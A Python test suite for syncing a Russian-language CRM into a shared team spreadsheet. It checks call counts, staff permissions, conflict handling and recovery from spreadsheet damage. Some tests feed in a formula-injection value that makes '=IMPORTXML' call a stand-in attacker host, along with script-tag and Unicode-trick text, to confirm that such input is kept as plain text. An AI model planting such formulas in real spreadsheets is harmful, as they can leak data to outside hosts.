"""The mirror of the team's workbook: what people see, what their edits do, what faults cost."""

from datetime import timedelta

import pytest
from tests.sync.fakes_sheets import FakeSheets
from tests.sync.sheets_office import ANNA, BORIS, FIRST_CALL, NEW, Team

from kartoteka.domain.errors import ProviderDown, RateLimited
from kartoteka.services.consume import checkpoint
from sync import books
from sync.sheets_mirror import drain

FORMULA = '=IMPORTXML("http://evil.example")'


def test_first_drain_builds_the_workbook_and_shows_every_record(office: Team) -> None:
    lead = office.request("Ирина Соколова")
    task = office.task(lead)

    calls = office.drain()

    assert calls == ["create", "info", "structure", *["share"] * 10, "read", "structure"]
    assert office.wrong() == []
    assert office.leads.ids() == [lead]
    assert office.leads.shown(lead, "Имя") == "Ирина Соколова"
    assert office.leads.shown(lead, "Телефон") == "+79160000001"
    assert office.leads.shown(lead, "Стадия") == NEW
    assert office.leads.shown(lead, "Ответственный") == "Анна Белова"
    assert office.leads.shown(lead, "Срок") == pytest.approx(46349 + (9 * 60 + 15) / 1440)
    assert office.tasks.shown(task, "Состояние") == "Открыта"
    assert office.tasks.shown(task, "Клиент") == "Ирина Соколова"
    assert [row[3] for row in office.journal.rows()] == ["Новая заявка", "Новая задача"]


def test_leads_show_at_most_nine_columns(office: Team) -> None:
    office.drain()
    office.look()
    hidden = [
        request["updateDimensionProperties"]["range"]["startIndex"]
        for request in office.sheets.requests
        if request.get("updateDimensionProperties", {}).get("properties") == {"hiddenByUser": True}
        and request["updateDimensionProperties"]["range"]["sheetId"] == office.leads.sheet_id
    ]

    assert hidden == [0, len(office.leads.tab.grid[0]) - 1]
    assert len(office.leads.tab.grid[0]) - len(hidden) == 9


def test_one_change_costs_one_read_and_one_write_and_the_journal(office: Team) -> None:
    lead = office.request()
    office.drain()

    office.put_on_stage(lead, "c1")

    assert office.drain() == ["read", "structure", "write"]
    assert office.leads.shown(lead, "Стадия") == FIRST_CALL
    assert office.journal.rows()[-1][5] == f"Стадия: {NEW} → {FIRST_CALL}"
    assert office.wrong() == []


def test_nothing_to_do_costs_no_call(office: Team) -> None:
    office.request()
    office.drain()

    assert office.drain() == []
    assert office.look() == ["read"]


def test_thousand_changed_rows_cost_at_most_four_calls(office: Team) -> None:
    ids = office.requests(1000)
    office.drain()
    office.rename_all(ids)

    calls = office.drain()

    assert calls == ["read", "structure", "write"]
    assert office.wrong() == []
    assert office.leads.shown(ids[-1], "Имя") == f"Новое имя {ids[-1]}"


def test_typed_name_becomes_a_command_of_that_person(office: Team) -> None:
    lead = office.request()
    office.drain()
    office.types(ANNA, lead, "Имя", "Ирина Петрова")

    office.look()

    assert office.lead(lead).name == "Ирина Петрова"
    office.drain()
    assert office.journal.rows()[-1][2] == "Анна Белова"
    assert office.wrong() == []
    assert office.conflicts() == []


def test_owner_note_and_task_are_changed_from_the_sheet(office: Team) -> None:
    lead = office.request()
    task = office.task(lead)
    office.drain()
    office.types(ANNA, lead, "Ответственный", "борис ким")
    office.types(ANNA, lead, "Заметка", FORMULA)
    office.tasks.type(task, "Состояние", "Сделана")

    office.settle()

    assert office.lead(lead).owner_id == "st_boris"
    assert office.lead(lead).note == FORMULA
    assert office.leads.shown(lead, "Ответственный") == "Борис Ким"
    assert office.app.store.get("tasks", task)["state"] == "done"
    assert office.wrong() == []


def test_gated_stage_is_restored_and_the_note_says_why(office: Team) -> None:
    lead = office.request()
    office.drain()
    office.types(ANNA, lead, "Стадия", FIRST_CALL)

    office.look()

    assert office.leads.shown(lead, "Стадия") == NEW
    assert "только после звонка" in office.leads.note(lead, "Стадия")
    assert office.lead(lead).stage == "new"
    assert office.wrong() == []


def test_note_goes_when_the_stage_moves(office: Team) -> None:
    lead = office.request()
    office.drain()
    office.types(ANNA, lead, "Стадия", FIRST_CALL)
    office.look()

    office.put_on_stage(lead, "c1")
    office.drain()

    assert office.leads.note(lead, "Стадия") == ""
    assert office.leads.tab.notes == {}


def test_note_goes_when_the_next_edit_is_accepted(office: Team) -> None:
    lead = office.request()
    office.drain()
    office.types(ANNA, lead, "Ответственный", "Кто-то")
    office.look()
    assert (
        office.leads.note(lead, "Ответственный") == "Такого сотрудника нет. Выберите имя из списка."
    )

    office.types(ANNA, lead, "Ответственный", "Борис Ким")
    office.look()

    assert office.leads.tab.notes == {}
    assert office.wrong() == []


def test_junk_needs_a_reason_and_takes_it_after_a_colon(office: Team) -> None:
    lead = office.request()
    office.put_on_stage(lead, "c1")
    office.drain()
    office.types(ANNA, lead, "Стадия", "Некачественный")
    office.look()
    assert "«Некачественный: причина»" in office.leads.note(lead, "Стадия")

    office.types(ANNA, lead, "Стадия", "Некачественный: не наш профиль")
    office.look()

    assert (office.lead(lead).stage, office.lead(lead).reason) == ("junk", "не наш профиль")
    assert office.leads.shown(lead, "Стадия") == "Некачественный"
    assert office.leads.tab.notes == {}


def test_colleagues_lead_is_refused_to_a_manager(office: Team) -> None:
    lead = office.request(owner="st_anna")
    office.drain()
    office.types(BORIS, lead, "Имя", "Чужая")

    office.look()

    assert office.lead(lead).name == "Клиент 1"
    assert "другого сотрудника" in office.leads.note(lead, "Имя")


def test_stranger_changes_nothing(office: Team) -> None:
    lead = office.request()
    office.drain()
    office.types("who@elsewhere.example", lead, "Имя", "Чужой")

    office.look()

    assert office.lead(lead).name == "Клиент 1"
    assert office.leads.note(lead, "Имя").startswith("Вас нет среди сотрудников")
    assert office.wrong() == []


def test_read_only_cell_is_restored_with_a_note(office: Team) -> None:
    lead = office.request()
    office.drain()
    office.leads.type(lead, "Телефон", "+70000000000")

    office.look()

    assert office.leads.note(lead, "Телефон").startswith("Этот столбец заполняет Картотека")
    assert office.wrong() == []


def test_edit_without_a_report_waits_for_its_author_then_counts_as_the_books(
    office: Team, tasks: object
) -> None:
    lead = office.request()
    office.drain()
    office.leads.type(lead, "Имя", "Без автора")

    office.look()
    assert office.lead(lead).name == "Клиент 1"
    assert office.leads.shown(lead, "Имя") == "Без автора"

    office.clock.advance(timedelta(seconds=3))
    office.look()

    assert office.lead(lead).name == "Без автора"
    assert office.wrong() == []


def test_late_report_finds_its_author(office: Team) -> None:
    lead = office.request()
    office.drain()
    office.leads.type(lead, "Имя", "Поздний")
    office.look()
    office.told(ANNA, lead, "Имя", "Поздний")

    office.look()
    office.drain()

    assert office.lead(lead).name == "Поздний"
    assert office.journal.rows()[-1][2] == "Анна Белова"


def test_store_wins_the_stage_and_the_typed_one_is_journalled(office: Team) -> None:
    lead = office.request()
    office.put_on_stage(lead, "c1")
    office.drain()
    office.types(ANNA, lead, "Стадия", "Качественный → сделка")
    office.put_on_stage(lead, "def")

    office.drain()

    [clash] = office.conflicts()
    assert (clash["column"], clash["user"]) == ("stage", "st_anna")
    assert (clash["sheet_value"], clash["store_value"]) == (
        "Качественный → сделка",
        "Отложенный спрос",
    )
    assert office.leads.shown(lead, "Стадия") == "Отложенный спрос"
    assert "Разошлось" in [row[3] for row in office.journal.rows()]
    assert office.wrong() == []


def test_person_wins_the_name_and_the_stores_one_is_journalled(office: Team) -> None:
    lead = office.request()
    office.drain()
    office.types(ANNA, lead, "Имя", "Как сказала Анна")
    office.rename(lead, "Как сказал сайт")

    office.drain()

    [clash] = office.conflicts()
    assert (clash["store_value"], clash["stood"]) == ("Как сказал сайт", "Как сказала Анна")
    assert office.lead(lead).name == "Как сказала Анна"
    office.settle()
    assert office.wrong() == []


def test_sorted_rows_are_found_again(office: Team) -> None:
    ids = [office.request() for _ in range(5)]
    office.drain()
    office.types(ANNA, ids[1], "Имя", "Вторая")
    office.leads.reverse()
    office.rename(ids[4], "Пятая")

    office.drain()

    assert office.leads.ids() == ids[::-1]
    assert office.lead(ids[1]).name == "Вторая"
    assert office.wrong() == []


def test_sort_between_read_and_write_is_put_right_at_the_next_look(
    office: Team, sheets: FakeSheets
) -> None:
    ids = [office.request() for _ in range(6)]
    office.drain()
    office.rename(ids[0], "Первая")
    office.put_on_stage(ids[1], "c1")

    def sort(name: str) -> None:
        if name == "write":
            sheets.between = lambda _name: None
            office.leads.reverse()

    sheets.between = sort
    office.drain()
    assert office.wrong() != []

    office.settle()

    assert office.wrong() == []
    assert office.lead(ids[5]).name == "Клиент 6"
    assert office.lead(ids[4]).stage == "new"


def test_edit_covered_by_our_write_is_journalled_with_its_author(
    office: Team, sheets: FakeSheets
) -> None:
    lead = office.request()
    office.drain()
    office.rename(lead, "Из формы")

    def typed(name: str) -> None:
        if name == "write":
            sheets.between = lambda _name: None
            office.types(ANNA, lead, "Имя", "От Анны")

    sheets.between = typed
    office.drain()
    office.look()

    assert office.lead(lead).name == "Из формы"
    [clash] = office.conflicts()
    assert (clash["sheet_value"], clash["user"]) == ("От Анны", "st_anna")
    assert office.wrong() == []


def test_edit_in_another_cell_while_we_write_is_taken_later(
    office: Team, sheets: FakeSheets
) -> None:
    lead = office.request()
    office.drain()
    office.rename(lead, "Из формы")

    def typed(name: str) -> None:
        if name == "write":
            sheets.between = lambda _name: None
            office.types(ANNA, lead, "Заметка", "Звонила сама")

    sheets.between = typed
    office.drain()
    office.look()

    assert office.lead(lead).note == "Звонила сама"
    assert office.wrong() == []


def test_columns_sorted_without_their_ids_make_no_commands(office: Team) -> None:
    ids = [office.request() for _ in range(4)]
    office.drain()
    visible = range(1, len(office.leads.tab.grid[0]) - 1)
    office.leads.permute([3, 2, 1, 0], columns=visible)

    office.settle()

    assert [office.lead(lead).name for lead in ids] == [f"Клиент {n}" for n in range(1, 5)]
    assert office.wrong() == []
    assert office.conflicts() == []


def test_deleted_row_comes_back_with_a_note(office: Team) -> None:
    ids = [office.request() for _ in range(3)]
    office.drain()
    office.leads.delete_rows(2, 3)

    office.look()

    assert office.leads.ids() == [ids[0], ids[2], ids[1]]
    assert office.leads.note(ids[1], "Имя").startswith("Строку удалили")
    assert office.wrong() == []


def test_copied_row_gets_a_note_and_is_no_second_record(office: Team) -> None:
    lead = office.request()
    other = office.request()
    office.drain()
    office.leads.insert_row(3, office.leads.tab.grid[1])

    office.look()
    calls = office.look()

    assert office.leads.ids() == [lead, other, lead]
    assert office.leads.tab.notes[3, 1].startswith("Это копия строки")
    assert calls == ["read"]
    office.leads.delete_rows(1, 2)
    office.settle()
    assert office.wrong() == []


def test_row_typed_by_a_person_is_left_alone(office: Team) -> None:
    lead = office.request()
    office.drain()
    office.leads.insert_row(2, ["", "Пётр с рынка", "8 916"])

    office.look()
    second = office.request()
    office.drain()

    assert office.leads.rows()[1][1:3] == ["Пётр с рынка", "8 916"]
    assert office.leads.tab.notes[2, 1].startswith("Эта строка не связана")
    assert office.leads.ids() == [lead, "", second]
    assert office.look() == ["read"]


def test_unknown_id_gets_a_note(office: Team) -> None:
    office.request()
    office.drain()
    office.leads.insert_row(2, ["ld_invented", "Имя"])

    office.look()

    assert office.leads.tab.notes[2, 1].startswith("Записи с таким номером нет")
    assert office.look() == ["read"]


def test_deleted_id_is_written_again(office: Team) -> None:
    lead = office.request()
    office.drain()
    office.leads.tab.put(1, 0, "")

    office.look()

    assert office.leads.ids() == [lead]
    assert office.wrong() == []


def test_damaged_base_loses_no_edit(office: Team) -> None:
    lead = office.request()
    office.drain()
    office.leads.type(lead, "База", "мусор")
    office.types(ANNA, lead, "Имя", "Новое имя")

    office.look()

    assert office.wrong() == []
    assert [clash["sheet_value"] for clash in office.conflicts()] == ["Новое имя"]


def test_renamed_header_and_moved_column_are_understood(office: Team) -> None:
    lead = office.request()
    office.drain()
    office.leads.tab.grid[0][2] = "Мобильный"
    order = list(range(len(office.leads.tab.grid[0])))
    order[3], order[4] = order[4], order[3]
    office.leads.tab.grid[:] = [[row[i] for i in order] for row in office.leads.tab.grid]
    office.types(ANNA, lead, "Ответственный", "Борис Ким")

    office.look()

    assert office.leads.tab.grid[0][2:5] == ["Телефон", "Ответственный", "Стадия"]
    assert office.lead(lead).owner_id == "st_boris"
    assert office.leads.shown(lead, "Стадия") == NEW


def test_renamed_tab_keeps_working(office: Team) -> None:
    lead = office.request()
    office.drain()
    office.leads.tab.title = "Наши 'лиды'"
    office.rename(lead, "Новое")

    office.drain()

    assert office.leads.shown(lead, "Имя") == "Новое"
    assert office.memory().tabs["leads"] == "Наши 'лиды'"


def test_deleted_tab_is_made_and_filled_again(office: Team) -> None:
    office.request()
    office.drain()
    del office.sheets.only().tabs[office.leads.sheet_id]

    office.look()

    assert office.wrong() == []


def test_deleted_workbook_is_made_and_filled_again(office: Team, sheets: FakeSheets) -> None:
    office.request()
    office.drain()
    first = office.memory().spreadsheet_id
    sheets.books.clear()

    office.look()

    assert office.memory().spreadsheet_id != first
    assert office.wrong() == []


@pytest.mark.parametrize("applied", [False, True])
@pytest.mark.parametrize("call", range(5))
def test_crash_while_the_workbook_is_made_leaves_one(
    office: Team, sheets: FakeSheets, call: int, applied: bool
) -> None:
    office.request()
    sheets.fail_soon(call, applied=applied)

    with pytest.raises(ProviderDown):
        office.drain()
    office.drain()

    assert len(sheets.books) == 1
    assert office.wrong() == []


@pytest.mark.parametrize("applied", [False, True])
@pytest.mark.parametrize("call", range(3))
def test_lost_answer_is_repeated_without_a_second_row(
    office: Team, sheets: FakeSheets, call: int, applied: bool
) -> None:
    lead = office.request()
    office.drain()
    office.rename(lead, "Другое имя")
    office.request()
    office.types(ANNA, lead, "Стадия", FIRST_CALL)
    sheets.fail_soon(call, applied=applied)
    if call == 2:
        office.put_on_stage(office.request(), "c1")

    position = checkpoint(office.app.store, "sheets")
    failed = False
    try:
        office.drain()
    except ProviderDown:
        failed = True
        assert checkpoint(office.app.store, "sheets") == position
    office.drain()

    assert failed or call == 2
    assert office.wrong() == []
    journal = office.journal.ids()
    assert len(journal) == len(set(journal))


def test_rate_limit_goes_to_the_queue_and_moves_no_checkpoint(
    office: Team, sheets: FakeSheets
) -> None:
    office.request()
    office.drain()
    position = checkpoint(office.app.store, "sheets")
    office.request()
    sheets.fail_soon(0, applied=False, error=RateLimited("slow", retry_after=timedelta(seconds=7)))

    with pytest.raises(RateLimited) as caught:
        drain(office.app)

    assert caught.value.retry_after == timedelta(seconds=7)
    assert checkpoint(office.app.store, "sheets") == position


def test_text_over_the_limit_is_cut_in_the_sheet_only(office: Team) -> None:
    lead = office.request("Я" * 60_000)
    office.drain()

    shown = str(office.leads.shown(lead, "Имя"))
    assert (len(shown), shown[-1]) == (50_000, "…")
    office.types(ANNA, lead, "Имя", shown[:-1] + "!")
    office.look()

    assert office.lead(lead).name == "Я" * 60_000
    assert office.leads.note(lead, "Имя").startswith("Текст длиннее")
    assert office.wrong() == []


def test_hostile_text_is_shown_whole_as_text(office: Team) -> None:
    hostile = f"{FORMULA}<script>\u200b\u202eوЖ\U0001f600\r\nвторая\x07 строка"
    lead = office.request(hostile)

    office.drain()

    assert office.leads.shown(lead, "Имя") == hostile.replace("\r\n", "\n").replace("\x07", "")
    assert office.look() == ["read"]


def test_grid_grows_before_it_is_full(office: Team) -> None:
    office.requests(190)

    office.drain()

    grown = [r for r in office.sheets.requests if "appendDimension" in r]
    assert {r["appendDimension"]["sheetId"] for r in grown} >= {office.leads.sheet_id}
    assert office.leads.tab.rows == 400


def test_new_colleague_gets_access_and_a_place_in_the_dropdown(office: Team) -> None:
    office.request()
    office.drain()
    dina = office.app.store.get("staff", "st_dina")
    new = {**dina, "id": "st_new", "name": "Новый Сотрудник", "email": "new@office.example"}
    office.app.store.run(lambda tx: tx.put("staff", "st_new", new))
    office.app.desk.settings.forget()

    calls = office.look()

    assert calls == ["structure", "share", "read"]
    assert "new@office.example" in office.sheets.only().shared
    assert "Новый Сотрудник" in str(office.sheets.requests[-10:])


def test_old_lines_of_the_journal_are_trimmed(office: Team) -> None:
    lead = office.request()
    office.drain()
    office.clock.advance(timedelta(days=32))
    office.rename(lead, "Позже")

    office.drain()

    assert [row[3] for row in office.journal.rows()] == ["Заявка изменена"]


def test_workbook_is_listed_for_the_office(office: Team) -> None:
    office.drain()
    office.look()
    doc = office.app.store.get(books.COLLECTION, books.TEAM)

    assert (doc["title"], doc["role"]) == ("Картотека", "team")
    assert doc["url"] == f"https://sheets.example/{doc['spreadsheet_id']}"
